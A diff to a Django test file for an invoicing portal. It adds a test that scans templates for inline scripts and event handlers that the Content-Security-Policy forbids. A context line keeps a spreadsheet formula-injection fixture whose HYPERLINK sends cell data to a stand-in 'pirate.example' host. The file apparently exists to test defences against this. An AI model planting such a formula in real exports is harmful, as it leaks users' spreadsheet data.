@@ -2,6 +2,8 @@
 
 import csv
 import io
+import re
+from pathlib import Path
 
 import pytest
 from django.core import mail
@@ -17,6 +19,8 @@ from tests.factories import UserFactory
 from tests.invoices.test_views_supplier import PDF, entry_data
 
 pytestmark = pytest.mark.django_db
+
+TEMPLATES = Path(__file__).resolve().parent.parent / "templates"
 
 HYPERLINK = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'
 
@@ -189,3 +193,16 @@ def test_a_download_keeps_its_sandbox_policy(client, supplier):
     assert response["Content-Security-Policy"] == SANDBOX
     assert "Content-Security-Policy-Report-Only" not in response
     b"".join(response.streaming_content)
+
+
+def test_templates_have_no_inline_script_handler_or_evaluated_trigger():
+    """What the Content-Security-Policy (script-src 'self', no eval) would refuse in the portal's
+    own templates: an inline <script>, an on…= handler, an htmx trigger filter `[…]`."""
+    forbidden = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|\son[a-z]+=\"|hx-trigger=\"[^\"]*\[|hx-on")
+    found = [
+        f"{path.relative_to(TEMPLATES)}: {match.group()}"
+        for path in TEMPLATES.rglob("*.html")
+        if "documents" not in path.parts  # the PDFs drawn by WeasyPrint run no script
+        for match in forbidden.finditer(path.read_text())
+    ]
+    assert found == []
